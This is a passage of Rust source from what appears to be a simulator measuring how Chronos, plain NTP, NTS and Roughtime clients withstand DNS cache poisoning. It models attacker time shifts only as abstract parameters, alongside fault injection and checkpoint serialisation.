    /// resolver serves *is* the pool — the paper's one poisoning
    /// opportunity, against Chronos' 24. No §V mitigations apply (they
    /// are Chronos pool-generation knobs). Under a fault plan a failed
    /// resolution retries with capped exponential backoff (jitter drawn
    /// from the fault substream) up to `retry.max_attempts` attempts; a
    /// client that exhausts its attempts boots with an empty pool.
    fn plain_pool_round(
        &mut self,
        i: usize,
        at_ns: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) {
        self.stats[i].pool_queries += 1;
        let attempt = self.retries[i];
        let answer = self.resolve_dns(i, at_ns, u64::from(attempt), config, tier, dns);
        match answer {
            DnsAnswer::Benign { .. } | DnsAnswer::StaleBenign { .. } => {
                self.benign_batches[i] = 1; // resolved: servers come from the prefix
            }
            DnsAnswer::Poisoned { farm_size, .. } | DnsAnswer::StalePoisoned { farm_size } => {
                self.malicious[i] = farm_size.min(tier.plain_servers) as u32;
            }
            DnsAnswer::Fail => {
                self.stats[i].pool_failures += 1;
                if attempt + 1 < config.faults.retry.max_attempts {
                    self.retries[i] = attempt + 1;
                    self.faults[i].boot_retries += 1;
                    let unit = fault_f64(
                        config.seed,
                        self.first_global + i as u64,
                        FaultLane::RetryJitter,
                        u64::from(attempt),
                        0,
                    );
                    self.schedule(i, at_ns + config.faults.retry.delay_ns(attempt, unit));
                    return;
                }
                // Out of attempts: boot with an empty pool (every poll is
                // a NoSamples no-op — the client free-runs on its drift).
            }
        }
        self.retries[i] = 0;
        self.pool_rounds[i] = 1;
        self.phase[i] = Phase::Syncing;
        // The packet client starts its first poll on resolution.
        self.schedule(i, at_ns);
    }

    /// One plain-NTP poll: every server in the (4-entry) pool is sampled
    /// and the round concludes through
    /// [`chronos::core::conclude_plain_round`] — `ntplab`'s
    /// intersection → cluster → combine, the same pipeline the
    /// packet-level [`ntplab::plain::PlainNtpClient`] runs.
    fn plain_poll_round(&mut self, i: usize, at_ns: u64, config: &FleetConfig, tier: &TierParams) {
        let benign = self.benign_count(i, config, tier);
        let malicious = self.malicious[i] as usize;
        let total = benign + malicious;
        let poll_ns = tier.chronos.poll_interval.as_nanos();
        if total == 0 {
            self.schedule(i, at_ns + poll_ns);
            return;
        }
        let poll_index = u64::from(self.stats[i].polls);
        self.stats[i].polls += 1;
        let mut rng = FleetRng::from_seed(self.rng[i]);
        let shift_ns = config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = config.benign_offset_ms as i64 * 1_000_000;
        let jitter = config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(at_ns));
        // Fixed draw order (malicious block, then benign): the pool *is*
        // the sample — plain NTP polls all of its servers every round.
        self.offsets_buf.clear();
        for _ in 0..malicious {
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(shift_ns - client_off + noise);
        }
        for _ in 0..benign {
            let server_off = Self::draw_benign_offset(&mut rng, benign_bound);
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        // Losses apply after the draws: a dropped sample still consumed
        // its noise draws, so the surviving subset is exactly what a
        // lossless run would have handed the same slots.
        self.apply_sample_loss(
            i,
            tier.faults.ntp_loss,
            FaultLane::NtpSample,
            poll_index,
            config.seed,
        );
        let collect_ns = at_ns + tier.chronos.response_window.as_nanos();
        let collect = SimTime::from_nanos(collect_ns);
        let mut stats = self.stats[i].widen();
        let outcome = core::conclude_plain_round(
            &mut stats,
            &mut self.plain_samples,
            &self.offsets_buf,
            plain_root_distance_ns(config),
        );
        self.stats[i] = CompactStats::narrow(&stats);
        if let PlainRoundOutcome::Correction { correction_ns, .. } = outcome {
            self.clocks[i].apply_correction(collect, correction_ns);
        }
        self.observe(i, collect, config);
        self.rng[i] = rng.state();
        // Mirror the packet client's cadence: polls start every
        // `poll_interval` exactly (collect + interval − window).
        self.schedule(i, at_ns + poll_ns);
    }

    // --- NTS lanes ---

    /// One NTS-KE association attempt (boot or re-key): resolve the KE
    /// server name through the client's resolver, then hold whatever the
    /// handshake returned — benign servers or the attacker's — for the
    /// key lifetime. This is the *only* DNS-dependent step of the NTS
    /// lane: polls are authenticated and cannot be spoofed, so the tier's
    /// entire attack surface is an association falling inside the poison
    /// window. Failed resolutions retry on the plain-NTP backoff policy
    /// (jitter and SERVFAIL draws keyed `boundary · max_attempts +
    /// attempt` on their own lanes); a boundary that exhausts its
    /// attempts is abandoned — the old keys serve until expiry, the next
    /// boundary tries again.
    fn nts_associate_round(
        &mut self,
        i: usize,
        at_ns: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) {
        self.stats[i].pool_queries += 1;
        let ma = u64::from(config.faults.retry.max_attempts.max(1));
        let k = u64::from(self.pool_rounds[i]);
        let attempt = self.retries[i];
        let round = k * ma + u64::from(attempt);
        let r = self.resolver[i] as usize;
        let answer =
            self.resolve_dns_via(i, r, at_ns, FaultLane::NtsRekey, round, config, tier, dns);
        match answer {
            DnsAnswer::Benign { .. } | DnsAnswer::StaleBenign { .. } => {
                self.benign_batches[i] = 1;
                self.malicious[i] = 0;
                self.assoc_expiry_ns[i] = at_ns + tier.key_lifetime_ns;
                self.secure[i].rekeys += 1;
            }
            DnsAnswer::Poisoned { farm_size, .. } | DnsAnswer::StalePoisoned { farm_size } => {
                // The KE handshake itself is with attacker servers: every
                // key it mints authenticates the attacker's time for the
                // whole lifetime.
                self.benign_batches[i] = 0;
                self.malicious[i] = farm_size.min(tier.plain_servers) as u32;
                self.assoc_expiry_ns[i] = at_ns + tier.key_lifetime_ns;
                self.secure[i].captured += 1;
                self.secure[i].rekeys += 1;
            }
            DnsAnswer::Fail => {
                self.stats[i].pool_failures += 1;
                if attempt + 1 < config.faults.retry.max_attempts {
                    self.retries[i] = attempt + 1;
                    self.faults[i].boot_retries += 1;
                    let unit = fault_f64(
                        config.seed,
                        self.first_global + i as u64,
                        FaultLane::RetryJitter,
                        round,
                        0,
                    );
                    self.schedule(i, at_ns + config.faults.retry.delay_ns(attempt, unit));
                    return;
                }
                // Boundary abandoned: keep whatever association (possibly
                // none) is in force and poll on — samples resume only
                // while the old keys are still inside their lifetime.
            }
        }
        self.retries[i] = 0;
        self.pool_rounds[i] += 1;
        self.phase[i] = Phase::Syncing;
        // Zero-delay first poll, exactly like a completed Chronos pool.
        self.schedule_poll(i, at_ns, config, tier);
    }

    // --- Roughtime lanes ---

    /// A Roughtime client's boot: resolve its M sources through M
    /// *distinct* resolvers (`(resolver + j) mod R`), once. Sources
    /// behind a poisoned cache are captured for the whole run (signed
    /// responses from the wrong server — the redundancy, not the
    /// signature, is what catches them); failed resolutions just shrink
    /// the source set (no retries — the redundant sources *are* the
    /// fallback).
    fn roughtime_boot_round(
        &mut self,
        i: usize,
        at_ns: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) {
        let mut resolved: u32 = 0;
        let mut poisoned: u32 = 0;
        for j in 0..tier.sources {
            self.stats[i].pool_queries += 1;
            let r = (self.resolver[i] as usize + j) % config.resolvers;
            let answer = self.resolve_dns_via(
                i,
                r,
                at_ns,
                FaultLane::DnsQuery,
                j as u64,
                config,
                tier,
                dns,
            );
            match answer {
                DnsAnswer::Benign { .. } | DnsAnswer::StaleBenign { .. } => {
                    resolved |= 1 << j;
                }
                DnsAnswer::Poisoned { .. } | DnsAnswer::StalePoisoned { .. } => {
                    resolved |= 1 << j;
                    poisoned |= 1 << j;
                    self.secure[i].captured += 1;
                }
                DnsAnswer::Fail => self.stats[i].pool_failures += 1,
            }
        }
        self.assoc_sources[i] = resolved | (poisoned << 16);
        self.malicious[i] = poisoned.count_ones();
        self.pool_rounds[i] = 1;
        self.phase[i] = Phase::Syncing;
        // Zero-delay first fetch on resolution.
        self.schedule(i, at_ns);
    }

    /// One Roughtime fetch round: every resolved source returns a signed
    /// midpoint, and the round concludes through
    /// [`chronos::core::conclude_roughtime_round`]'s strict
    /// majority-of-midpoints cross-check. Captured sources lie by the
    /// attack shift; with M ≥ 2·captured+1 the honest majority wins, an
    /// even split is a *detected* inconsistency (clock untouched,
    /// counter ticked), a captured majority steers the clock — and M = 1
    /// trusts its lone source blindly (Medalla).
    fn roughtime_poll_round(
        &mut self,
        i: usize,
        at_ns: u64,
        config: &FleetConfig,
        tier: &TierParams,
    ) {
        let packed = self.assoc_sources[i];
        let resolved = packed & 0xffff;
        let poisoned = packed >> 16;
        let poll_ns = tier.chronos.poll_interval.as_nanos();
        if resolved == 0 {
            self.schedule(i, at_ns + poll_ns);
            return;
        }
        let poll_index = u64::from(self.stats[i].polls);
        self.stats[i].polls += 1;
        let mut rng = FleetRng::from_seed(self.rng[i]);
        let shift_ns = config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = config.benign_offset_ms as i64 * 1_000_000;
        let jitter = config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(at_ns));
        // Fixed draw order: sources ascending by their boot slot, each
        // drawing exactly one midpoint (captured sources serve the
        // attacker's clock, honest ones their own benign offset).
        self.offsets_buf.clear();
        for j in 0..16 {
            if resolved & (1 << j) == 0 {
                continue;
            }
            let server_off = if poisoned & (1 << j) != 0 {
                shift_ns
            } else {
                Self::draw_benign_offset(&mut rng, benign_bound)
            };
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        // Per-source fetch losses ride their own lane so Roughtime tiers
        // in a fault plan leave every other substream untouched.
        self.apply_sample_loss(
            i,
            tier.faults.ntp_loss,
            FaultLane::RoughtimeFetch,
            poll_index,
            config.seed,
        );
        let collect_ns = at_ns + tier.chronos.response_window.as_nanos();
        let collect = SimTime::from_nanos(collect_ns);
        let mut stats = self.stats[i].widen();
        let outcome = core::conclude_roughtime_round(
            &mut stats,
            &mut self.offsets_buf,
            roughtime_agreement_ns(config),
        );
        self.stats[i] = CompactStats::narrow(&stats);
        match outcome {
            RoughtimeOutcome::Correction { correction_ns, .. } => {
                self.clocks[i].apply_correction(collect, correction_ns);
            }
            RoughtimeOutcome::Inconsistent => self.secure[i].inconsistent += 1,
            RoughtimeOutcome::NoSamples => {}
        }
        self.observe(i, collect, config);
        self.rng[i] = rng.state();
        // On-grid cadence like plain NTP: fetches start every interval.
        self.schedule(i, at_ns + poll_ns);
    }

    // --- Chronos poll rounds ---

    fn draw_benign_offset(rng: &mut FleetRng, bound_ns: i64) -> i64 {
        if bound_ns > 0 {
            rng.range_i64(-bound_ns, bound_ns)
        } else {
            0
        }
    }

    /// One Chronos-shaped poll round. NTS clients share this lane — their
    /// association pool feeds the same sampling and decision machinery —
    /// with two twists: an expired association yields no samples (keys
    /// outlived their lifetime and every re-key since failed), and the
    /// next deadline is the earlier of the next poll and the next
    /// scheduled re-key ([`Shard::schedule_poll`]).
    fn poll_round(&mut self, i: usize, at_ns: u64, config: &FleetConfig, tier: &TierParams) {
        let expired = tier.kind == ClientKind::Nts && self.assoc_expiry_ns[i] <= at_ns;
        let benign = self.benign_count(i, config, tier);
        let malicious = self.malicious[i] as usize;
        let total = if expired { 0 } else { benign + malicious };
        let poll_ns = tier.chronos.poll_interval.as_nanos();
        if total == 0 {
            // Nothing to sample; try again next interval (as the packet
            // client does, without counting a poll).
            self.schedule_poll(i, at_ns + poll_ns, config, tier);
            return;
        }
        let poll_index = u64::from(self.stats[i].polls);
        self.stats[i].polls += 1;
        let mut rng = FleetRng::from_seed(self.rng[i]);
        let m = tier.chronos.sample_size.min(total);
        let shift_ns = config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = config.benign_offset_ms as i64 * 1_000_000;
        let jitter = config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(at_ns));
        // Sample m of the pool without replacement (malicious block first),
        // drawing each picked server's observed offset in pick order.
        let mut mal_rem = malicious as u64;
        let mut ben_rem = benign as u64;
        self.offsets_buf.clear();
        for _ in 0..m {
            let u = rng.range_u64(mal_rem + ben_rem);
            let server_off = if u < mal_rem {
                mal_rem -= 1;
                shift_ns
            } else {
                ben_rem -= 1;
                Self::draw_benign_offset(&mut rng, benign_bound)
            };
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        // The surviving subset feeds the real decision core: enough drops
        // turn the round into a TooFewSamples reject, and K of those into
        // a genuine panic episode.
        self.apply_sample_loss(
            i,
            tier.faults.ntp_loss,
            FaultLane::NtpSample,
            poll_index,
            config.seed,
        );
        let collect_ns = at_ns + tier.chronos.response_window.as_nanos();
        let collect = SimTime::from_nanos(collect_ns);
        let mut stats = self.stats[i].widen();
        let mut last_update = unpack_update(self.last_update_ns[i]);
        let outcome = core::conclude_sample_round(
            &tier.chronos,
            &mut CoreState {
                phase: &mut self.phase[i],
                retries: &mut self.retries[i],
                last_update: &mut last_update,
                stats: &mut stats,
            },
            &mut self.scratch,
            &self.offsets_buf,
            collect,
        );
        self.stats[i] = CompactStats::narrow(&stats);
        self.last_update_ns[i] = pack_update(last_update);
        match outcome {
            RoundOutcome::Accept { correction_ns, .. } => {
                self.clocks[i].apply_correction(collect, correction_ns);
                self.observe(i, collect, config);
                self.rng[i] = rng.state();
                self.schedule_poll(i, collect_ns + poll_ns, config, tier);
            }
            RoundOutcome::Resample => {
                self.observe(i, collect, config);
                self.rng[i] = rng.state();
                self.schedule_poll(i, collect_ns, config, tier);
            }
            RoundOutcome::EnterPanic => {
                self.observe(i, collect, config);
                self.panic_round(i, collect_ns, &mut rng, benign, malicious, config, tier);
                self.rng[i] = rng.state();
            }
        }
    }

    /// Schedules a client's next poll-lane deadline. For every kind but
    /// NTS this is a plain [`Shard::schedule`]; an NTS client instead
    /// takes the earlier of the intended poll and its next scheduled
    /// re-key boundary — if the re-key comes first, the phase flips back
    /// to [`Phase::PoolGeneration`] so the next event runs NTS-KE.
    fn schedule_poll(&mut self, i: usize, at_ns: u64, config: &FleetConfig, tier: &TierParams) {
        if tier.kind != ClientKind::Nts {
            self.schedule(i, at_ns);
            return;
        }
        let global = self.first_global + i as u64;
        let (boot_ns, _, _) = client_boot(config, global);
        // `pool_rounds` counts handled re-key boundaries (boot = boundary
        // 0), so the next boundary sits one re-key interval per handled
        // boundary past the boot instant.
        let k = u64::from(self.pool_rounds[i]);
        let next_rekey = boot_ns + k * tier.rekey_interval_ns;
        if next_rekey <= at_ns {
            self.phase[i] = Phase::PoolGeneration;
            self.retries[i] = 0;
            // An overdue boundary (a panic or retry chain ran past it)
            // fires immediately; its DNS query reads the cache at the
            // actual query time, same documented semantic as plain-NTP
            // phantom retries.
            self.schedule(i, next_rekey.max(self.deadline_ns[i]));
        } else {
            self.schedule(i, at_ns);
        }
    }

    /// Panic mode: one batched round over the *whole* pool, concluding a
    /// response window later (as the packet client's panic collect does).
    #[allow(clippy::too_many_arguments)]
    fn panic_round(
        &mut self,
        i: usize,
        collect_ns: u64,
        rng: &mut FleetRng,
        benign: usize,
        malicious: usize,
        config: &FleetConfig,
        tier: &TierParams,
    ) {
        let shift_ns = config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = config.benign_offset_ms as i64 * 1_000_000;
        let jitter = config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(collect_ns));
        self.offsets_buf.clear();
        for _ in 0..malicious {
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(shift_ns - client_off + noise);
        }
        for _ in 0..benign {
            let server_off = Self::draw_benign_offset(rng, benign_bound);
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        // Panic rounds ride their own lane keyed by the panic-episode
        // index (conclude_sample_round already counted this episode), so
        // panic losses never collide with regular poll losses.
        let episode = u64::from(self.stats[i].panics);
        self.apply_sample_loss(
            i,
            tier.faults.ntp_loss,
            FaultLane::PanicSample,
            episode,
            config.seed,
        );
        let panic_ns = collect_ns + tier.chronos.response_window.as_nanos();
        let panic_at = SimTime::from_nanos(panic_ns);
        let mut stats = self.stats[i].widen();
        let mut last_update = unpack_update(self.last_update_ns[i]);
        let correction = core::conclude_panic_round(
            &mut CoreState {
                phase: &mut self.phase[i],
                retries: &mut self.retries[i],
                last_update: &mut last_update,
                stats: &mut stats,
            },
            &mut self.scratch,
            &self.offsets_buf,
            panic_at,
        );
        self.stats[i] = CompactStats::narrow(&stats);
        self.last_update_ns[i] = pack_update(last_update);
        if let Some(correction) = correction {
            self.clocks[i].apply_correction(panic_at, correction);
        }
        self.observe(i, panic_at, config);
        self.schedule_poll(
            i,
            panic_ns + tier.chronos.poll_interval.as_nanos(),
            config,
            tier,
        );
    }

    /// Streams one concluded round's clock error into the aggregates (and
    /// the client's trajectory when recording).
    fn observe(&mut self, i: usize, now: SimTime, config: &FleetConfig) {
        let off = self.clocks[i].offset_from_true(now);
        if config.record_trajectories {
            self.traces[i].push((now, off));
        }
        let abs = off.unsigned_abs();
        self.histogram.record(abs);
        for q in &mut self.quantiles {
            q.observe(abs as f64);
        }
    }

    // --- sampling ---

    fn emit_samples_until(&mut self, up_to_ns: u64, config: &FleetConfig, tier_count: usize) {
        while self.next_sample_ns <= up_to_ns && self.next_sample_ns <= self.boundary_ns {
            let at = SimTime::from_nanos(self.next_sample_ns);
            self.push_shifted_sample(at, config, tier_count);
            self.next_sample_ns += config.sample_every.as_nanos();
        }
    }

    /// Appends one per-tier chunk of shifted-client counts at `now` to
    /// the sample-major `shifted_counts` column.
    fn push_shifted_sample(&mut self, now: SimTime, config: &FleetConfig, tier_count: usize) {
        let bound = config.safety_bound.as_nanos() as i64;
        let base = self.shifted_counts.len();
        self.shifted_counts.resize(base + tier_count, 0);
        for (i, clock) in self.clocks.iter().enumerate() {
            if clock.offset_from_true(now).abs() > bound {
                self.shifted_counts[base + self.tier[i] as usize] += 1;
            }
        }
    }

    /// Clients of this shard whose |clock error| exceeds the safety bound
    /// at `now`.
    fn shifted_count(&self, now: SimTime, config: &FleetConfig) -> u64 {
        let bound = config.safety_bound.as_nanos() as i64;
        self.clocks
            .iter()
            .filter(|c| c.offset_from_true(now).abs() > bound)
            .count() as u64
    }

    /// Per-tier shifted-client counts at `now` (accumulated into `out`,
    /// which must hold one slot per tier).
    fn shifted_count_by_tier(&self, now: SimTime, config: &FleetConfig, out: &mut [u64]) {
        let bound = config.safety_bound.as_nanos() as i64;
        for (i, clock) in self.clocks.iter().enumerate() {
            if clock.offset_from_true(now).abs() > bound {
                out[self.tier[i] as usize] += 1;
            }
        }
    }

    // --- checkpoint codec (see crate::checkpoint for the format) ---

    /// Serializes the shard's complete state. The scratch buffers
    /// (`scratch`, `offsets_buf`, `plain_samples`, `expired`) are
    /// per-event temporaries and carry nothing across events; `carry`
    /// membership is re-derivable from the deadlines and the wheel clock,
    /// so only `due` (the one pending list whose membership is not) is
    /// written explicitly.
    fn encode(&self, w: &mut Writer) {
        w.u64(self.first_global);
        w.len(self.clocks.len());
        for i in 0..self.clocks.len() {
            let (offset_ns, drift_bits, rebased_ns, steps, slews) = self.clocks[i].to_raw();
            w.i64(offset_ns);
            w.u64(drift_bits);
            w.u64(rebased_ns);
            w.u64(steps);
            w.u64(slews);
            w.u8(match self.phase[i] {
                Phase::PoolGeneration => 0,
                Phase::Syncing => 1,
                Phase::Panic => 2,
            });
            w.u8(self.tier[i]);
            w.u16(self.resolver[i]);
            w.u32(self.retries[i]);
            w.u64(self.last_update_ns[i]);
            w.u64(self.rng[i]);
            let s = &self.stats[i];
            for c in [
                s.pool_queries,
                s.pool_failures,
                s.polls,
                s.accepts,
                s.rejects,
                s.panics,
            ] {
                w.u32(c);
            }
            let f = &self.faults[i];
            for c in [
                f.ntp_losses,
                f.dns_servfails,
                f.outage_hits,
                f.stale_served,
                f.boot_retries,
            ] {
                w.u32(c);
            }
            w.u16(self.pool_rounds[i]);
            w.u64(self.benign_batches[i]);
            w.u32(self.malicious[i]);
            w.u64(self.deadline_ns[i]);
            w.u64(self.assoc_expiry_ns[i]);
            w.u32(self.assoc_sources[i]);
            let sec = &self.secure[i];
            for c in [sec.captured, sec.inconsistent, sec.rekeys] {
                w.u32(c);
            }
        }
        w.len(self.traces.len());
        for trace in &self.traces {
            w.len(trace.len());
            for &(t, off) in trace {
                w.u64(t.as_nanos());
                w.i64(off);
            }
        }
        // Pending-event bookkeeping. `due` is sorted before writing: its
        // order is semantically irrelevant (process_due re-sorts every
        // batch), and a canonical order keeps equal states byte-equal.
        let mut due = self.due.clone();
        due.sort_unstable();
        w.len(due.len());
        for id in due {
            w.u32(id);
        }
        w.u64(self.now_ns);
        w.u64(self.boundary_ns);
        w.u64(self.next_sample_ns);
        w.u64(self.wheel.now_tick());
        w.len(self.shifted_counts.len());
        for &c in &self.shifted_counts {
            w.u64(c);
        }
        let (counts, total) = self.histogram.raw_counts();
        w.len(counts.len());
        for &c in counts {
            w.u64(c);
        }
        w.u64(total);
        for q in &self.quantiles {
            let (p, qh, n, np, dn, count) = q.to_raw_parts();
            w.f64(p);
            for arr in [qh, n, np, dn] {
                for v in arr {
                    w.f64(v);
                }
            }
            w.u64(count);
        }
        w.u64(self.events);
    }

    /// Restores the shard from [`Shard::encode`] output. The shard must
    /// already be [`Shard::rebuild`]-sized for the same config (columns
    /// allocated, `first_global` set); the timer wheel is reconstructed by
    /// jumping its clock to the snapshot tick and re-filing every pending
    /// deadline — clients whose deadline tick the wheel clock already
    /// passed fall back into `carry`, exactly the partition the running
    /// shard held (slot-list order inside the wheel may differ, which is
    /// invisible: batches are re-sorted by `(deadline, client)` on
    /// expiry).
    fn decode(&mut self, r: &mut Reader<'_>, config: &FleetConfig) -> Result<(), CheckpointError> {
        if r.u64()? != self.first_global {
            return Err(CheckpointError::Corrupt("shard first_global mismatch"));
        }
        let len = r.len()?;
        if len != self.clocks.len() {
            return Err(CheckpointError::Corrupt("shard length mismatch"));
        }
        for i in 0..len {
            let raw = (r.i64()?, r.u64()?, r.u64()?, r.u64()?, r.u64()?);
            self.clocks[i] = LocalClock::from_raw(raw);
            self.phase[i] = match r.u8()? {
                0 => Phase::PoolGeneration,
                1 => Phase::Syncing,
                2 => Phase::Panic,
                _ => return Err(CheckpointError::Corrupt("phase tag out of range")),
            };
            self.tier[i] = r.u8()?;
            self.resolver[i] = r.u16()?;
            self.retries[i] = r.u32()?;
            self.last_update_ns[i] = r.u64()?;
            self.rng[i] = r.u64()?;
            self.stats[i] = CompactStats {
                pool_queries: r.u32()?,
                pool_failures: r.u32()?,
                polls: r.u32()?,
                accepts: r.u32()?,
                rejects: r.u32()?,
                panics: r.u32()?,
            };
            self.faults[i] = CompactFaults {
                ntp_losses: r.u32()?,
                dns_servfails: r.u32()?,
                outage_hits: r.u32()?,
                stale_served: r.u32()?,
                boot_retries: r.u32()?,
            };
            self.pool_rounds[i] = r.u16()?;
            self.benign_batches[i] = r.u64()?;
            self.malicious[i] = r.u32()?;
            self.deadline_ns[i] = r.u64()?;
            self.assoc_expiry_ns[i] = r.u64()?;
            self.assoc_sources[i] = r.u32()?;
            self.secure[i] = CompactSecure {
                captured: r.u32()?,
                inconsistent: r.u32()?,
                rekeys: r.u32()?,
            };
        }
        let trace_count = r.len()?;
        let expected_traces = if config.record_trajectories { len } else { 0 };
        if trace_count != expected_traces {
            return Err(CheckpointError::Corrupt("trajectory layout mismatch"));
        }
        for t in 0..trace_count {
            let points = r.len()?;
            self.traces[t].clear();
            self.traces[t].reserve(points);
            for _ in 0..points {
                let at = SimTime::from_nanos(r.u64()?);
                self.traces[t].push((at, r.i64()?));
            }
        }
        let due_count = r.len()?;
        let mut due = Vec::with_capacity(due_count);
        for _ in 0..due_count {
            let id = r.u32()?;
            if id as usize >= len {
                return Err(CheckpointError::Corrupt("due id out of range"));
            }
            due.push(id);
        }
        due.sort_unstable();
        self.now_ns = r.u64()?;
        self.boundary_ns = r.u64()?;
        self.next_sample_ns = r.u64()?;
        let wheel_tick = r.u64()?;
        // Rebuild the wheel: reset, jump to the snapshot tick, re-file
        // every pending deadline. A client in `due` is about to run and
        // is not re-armed; a refused schedule (deadline tick at or before
        // the wheel clock) is a carried event by definition.
        self.wheel.reset();
        self.wheel.jump_to_tick(wheel_tick);
        self.due.clear();
        self.expired.clear();
        self.carry.clear();
        for i in 0..len {
            if due.binary_search(&(i as u32)).is_ok() {
                continue;
            }
            if !self.wheel.schedule(i as u32, self.deadline_ns[i]) {
                self.carry.push(i as u32);
            }
        }
        self.due = due;
        let sc = r.len()?;
        self.shifted_counts.clear();
        self.shifted_counts.reserve(sc);
        for _ in 0..sc {
            self.shifted_counts.push(r.u64()?);
        }
        let bins = r.len()?;
        let mut counts = Vec::with_capacity(bins);
        for _ in 0..bins {
            counts.push(r.u64()?);
        }
        let total = r.u64()?;
        let expected_bins = self.histogram.raw_counts().0.len();
        if bins != expected_bins {
            return Err(CheckpointError::Corrupt("histogram bin count mismatch"));
        }
        self.histogram.restore_counts(counts, total);
        for q in &mut self.quantiles {
            let p = r.f64()?;
            let mut arrays = [[0.0f64; 5]; 4];
            for arr in &mut arrays {
                for v in arr.iter_mut() {
                    *v = r.f64()?;
                }
            }
            let count = r.u64()?;
            if p != q.p() {
                return Err(CheckpointError::Corrupt("quantile p mismatch"));
            }
            *q = P2Quantile::from_raw_parts((p, arrays[0], arrays[1], arrays[2], arrays[3], count));
        }
        self.events = r.u64()?;
        Ok(())
    }
}

fn pack_update(last_update: Option<SimTime>) -> u64 {
    last_update.map_or(NO_UPDATE, |t| t.as_nanos())
}

fn unpack_update(packed: u64) -> Option<SimTime> {
    (packed != NO_UPDATE).then(|| SimTime::from_nanos(packed))
}

/// The plain-NTP mean-field correctness-interval radius: the benign
/// imperfection bound plus a 4σ jitter budget plus a 1 ms floor. Stands
/// in for the per-exchange δ/2 + ε a packet client measures, and is wide
/// enough that honest servers always intersect (their offsets are drawn
/// inside the bound) while a 500 ms-scale lie never intersects them.
fn plain_root_distance_ns(config: &FleetConfig) -> i64 {
    config.benign_offset_ms as i64 * 1_000_000 + 4 * config.jitter_std.as_nanos() as i64 + 1_000_000
}

/// The Roughtime majority-of-midpoints agreement radius: two honest
/// sources can disagree by up to twice the benign imperfection bound plus
/// an 8σ two-sided jitter budget (plus a 1 ms floor) and must still
/// cluster, while a 500 ms-scale lie must never join the honest window.
fn roughtime_agreement_ns(config: &FleetConfig) -> i64 {
    2 * config.benign_offset_ms as i64 * 1_000_000
        + 8 * config.jitter_std.as_nanos() as i64
        + 1_000_000
}

/// Derives one client's boot state from the fleet seed and its global id:
/// `(boot stagger ns, clock drift ppm, post-boot RNG state)`. The single
/// source of truth for the per-client draw order — shard reseeding *and*
/// the resolver pre-pass (which needs every boot time up front) both call
/// it, so the two can never disagree about when a client first queries.
fn client_boot(config: &FleetConfig, global_id: u64) -> (u64, f64, u64) {
    let mut rng = FleetRng::from_seed(client_seed(config.seed, global_id));
    // Fixed per-client draw order: (1) boot stagger, (2) drift.
    let stagger_ns = config.stagger.as_nanos();
    let start_ns = if stagger_ns > 0 {
        rng.range_u64(stagger_ns)
    } else {
        0
    };
    let drift_bound = config.client_drift_ppm;
    let drift = if drift_bound > 0.0 {
        drift_bound * (2.0 * rng.next_f64() - 1.0)
    } else {
        0.0
    };
    (start_ns, drift, rng.state())
}

/// A population of lightweight time clients in one shared world — mixed
/// Chronos/plain-NTP tiers hashed across independent resolvers, sharded
/// for parallel stepping (see the module docs).
#[derive(Debug)]
pub struct Fleet {
    config: FleetConfig,
    /// Resolved per-tier parameters, indexed by the `tier` column.
    tiers: Vec<TierParams>,
    /// The balanced client→tier pattern.
    assignment: TierAssignment,
    /// One model per resolver ([`FleetConfig::resolvers`]).
    resolvers: Vec<ResolverModel>,
    /// Precomputed per-resolver answer timelines (empty in independent
    /// mode).
    timelines: Vec<ResolverTimeline>,
    shards: Vec<Shard>,
    now_ns: u64,
    /// Optional wall-clock instrumentation (see [`crate::metrics`]).
    /// Never checkpointed; a restored fleet starts unmetered.
    metrics: Option<std::sync::Arc<FleetMetrics>>,
    /// Wall-clock stats of the most recent `run_until` slice
    /// (`(wall_secs, events, sim_ns)`); observability only.
    last_slice: Option<(f64, u64, u64)>,
}

impl Fleet {
    /// Builds a fleet for `config` at time zero.
    ///
    /// # Panics
    ///
    /// Panics if the configuration is inconsistent
    /// (see [`FleetConfig::validate`]).
    pub fn new(config: FleetConfig) -> Fleet {
        config.validate();
        let mut fleet = Fleet {
            tiers: Vec::new(),
            assignment: TierAssignment::new(&[]),
            resolvers: Vec::new(),
            timelines: Vec::new(),
            shards: Vec::new(),
            now_ns: 0,
            metrics: None,
            last_slice: None,
            config,
        };
        fleet.rebuild();
        fleet
    }

    /// Attaches (or with `None`, detaches) engine instrumentation. The
    /// handle is a strict wall-clock side channel: it consumes no RNG
    /// draws and never perturbs simulation state, so runs stay
    /// byte-identical with metrics on or off (proptest-pinned). Survives
    /// [`Fleet::reset`] / [`Fleet::reconfigure`]; excluded from
    /// checkpoints.
    pub fn set_metrics(&mut self, metrics: Option<std::sync::Arc<FleetMetrics>>) {
        self.metrics = metrics;
    }

    /// The attached instrumentation handle, if any.
    pub fn metrics(&self) -> Option<&std::sync::Arc<FleetMetrics>> {
        self.metrics.as_ref()
    }

    /// The configuration in force.
    pub fn config(&self) -> &FleetConfig {
        &self.config
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        SimTime::from_nanos(self.now_ns)
    }

    /// Client events stepped so far.
